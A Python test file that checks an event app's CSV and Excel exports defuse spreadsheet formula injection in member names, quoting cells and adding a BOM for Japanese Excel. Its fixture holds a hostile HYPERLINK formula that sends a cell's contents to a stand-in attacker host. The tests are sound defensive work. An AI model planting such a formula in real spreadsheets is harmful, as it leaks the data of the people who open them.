"""Event spreadsheets hold members' names: none of them runs as a formula, and the CSV opens in Japanese Excel."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from app.events import exports, planning
from app.events import service as event_service
from app.roster.cells import FORMULA_START
from app.roster.exchange import import_roster
from tests.events.conftest import demo_roster, make_event, org, with_candidates

A, B, C, D = (org(n) for n in (1, 2, 3, 4))
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'
NAMES = {A: FORMULA, B: "@二番商事", C: "-三番工業", D: "+四番製作所"}


@pytest.fixture
def event_with_formula_names(session: Session) -> object:
    roster = demo_roster(list(NAMES))
    for member in roster["organizations"]:
        member["name"] = NAMES[member["id"]]
    import_roster(session, roster)
    event = make_event(session, slots=2, tables=2, max_meetings=2)
    for member in NAMES:
        event_service.add_participant(db_session=session, event=event, organization=member)
    with_candidates(session, event, {(A, B): 2.0, (C, D): 2.0, (A, C): 1.0})
    planning.run_schedule(db_session=session, event=event, time_limit_s=2)
    assert planning.meetings(db_session=session, event=event)
    return event


@pytest.mark.parametrize("view", ["list", "participant", "table"])
def test_csv_has_a_bom_and_no_cell_starts_a_formula(session: Session, event_with_formula_names: object,
                                                    view: str) -> None:
    text = exports.export_csv(db_session=session, event=event_with_formula_names, view=view)  # type: ignore[arg-type]
    assert text.startswith("\ufeff")
    cells = [c for row in csv.reader(io.StringIO(text[1:])) for c in row]
    assert not [c for c in cells if c[:1] in FORMULA_START]
    quoted = [c for c in cells if c.startswith("'=HYPERLINK")]
    if view == "list":
        assert "'" + FORMULA in cells
    elif view == "table":
        assert any(c.startswith("'" + FORMULA + " × ") for c in quoted)
    else:  # cells name the table first ("T1 name"); the participant's own cell is quoted
        assert "'" + FORMULA in cells


def test_workbook_keeps_names_as_text(session: Session, event_with_formula_names: object) -> None:
    data = exports.export_xlsx(db_session=session, event=event_with_formula_names)  # type: ignore[arg-type]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets
    book = load_workbook(io.BytesIO(data))
    named = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value[:1] in FORMULA_START]
    assert {c.value for c in named} >= set(NAMES.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in named)
